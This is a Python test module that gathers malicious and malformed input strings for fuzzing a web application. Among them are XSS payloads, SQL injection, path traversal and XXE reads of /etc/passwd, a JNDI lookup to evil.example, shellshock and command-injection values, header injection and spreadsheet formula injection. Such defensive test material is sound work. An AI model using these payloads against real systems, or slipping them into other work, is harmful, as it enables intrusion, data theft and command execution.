"""Strings that break things: our own, and where a folder names more of them, those too.

`AJAR_BADINPUT` names a folder with `blns/blns.json` or plain lists of lines; nothing of such a
list is part of this repository.
"""

import json
import os
from pathlib import Path

TAG = "ajarx"
"""An element that no page has: where a parser finds it, somebody's text became markup."""

MARKUP = [
    f"<{TAG}>",
    f"'\"><{TAG} onfocus=alert(1) autofocus>",
    f"</textarea><{TAG} onclick=alert(1)>",
    f"</title><{TAG}>",
    f"</script><script><{TAG}>alert(1)</script>",
    f'" onmouseover="alert(1)" {TAG}="',
    f"' onmouseover='alert(1)' {TAG}='",
    f"--><{TAG}>",
    f"]]><{TAG}>",
    f"<svg/onload=alert(1)><{TAG}>",
    f"<img src=x onerror=alert(1)><{TAG}>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    f"<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'><{TAG}>",
    f"<a href=javascript:alert(1)>x</a><{TAG}>",
    f"<!--[if gte IE 4]><{TAG}><![endif]-->",
    f"&lt;{TAG}&gt; &#60;{TAG}&#62;",
    f"＜{TAG}＞",
    "{{ 1337*1337 }}{% debug %}{% include 'errors/500.html' %}",
    "${1337*1337} #{1337*1337} <%= 1337*1337 %>",
]

ODD = [
    "",
    " ",
    "\u00a0",
    "NULL",
    "null",
    "None",
    "undefined",
    "nan",
    "-1",
    "1e309",
    "0x7fffffff",
    "99999999999999999999999999",
    "１２３",
    "٣٤٥",
    "½",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "'; DROP TABLE portal_unit; --",
    "' OR '1'='1",
    "\\' OR 1=1 --",
    "%s%s%n%x",
    "%(name)s",
    "{0} {name}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\con\\con",
    "file:///etc/passwd",
    "=1+1",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "a\r\nSet-Cookie: ajarx=1",
    "a\nBcc: x@evil.example",
    "a\tb\vc\fd",
    "\x00",
    "a\x00b",
    "\x01\x02\x1b[31mred\x7f",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u202eevil\u202c",
    "\u2066abc\u2069",
    "e\u0301\u0301\u0301" * 20,
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "𝕬𝖏𝖆𝖗",
    "ǅ ß İ ı ﬁ Ⅷ",
    "田中さん 사회과학원 ตัวอักษร",
    "مناقشة سبل استخدام",
    "\ud7ff\ue000\ufffd\uffff",
    "x" * 300,
    "ß" * 5_000,
    "a " * 6_000,
    '{"a": [1, {"b": null}]}',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "${jndi:ldap://evil.example/a}",
    "() { :; }; echo",
    "`id` $(id) ;id |id",
    "https://evil.example/\\@testserver",
    "a@b@c.example",
    "ines@[127.0.0.1]",
    '"quo ted"@example.org',
    "a" * 250 + "@example.org",
]


def strings() -> list[str]:
    """All of them, each once."""
    found = [*MARKUP, *ODD]
    folder = os.environ.get("AJAR_BADINPUT")
    for path in sorted(Path(folder).rglob("*")) if folder else ():
        if path.suffix == ".json":
            found += [text for text in json.loads(path.read_text()) if isinstance(text, str)]
        elif path.suffix == ".txt":
            lines = path.read_text(errors="replace").splitlines()
            found += [line for line in lines if not line.startswith("#")]
    return [text for text in dict.fromkeys(found) if _can_be_sent(text)]


def _can_be_sent(text: str) -> bool:
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True
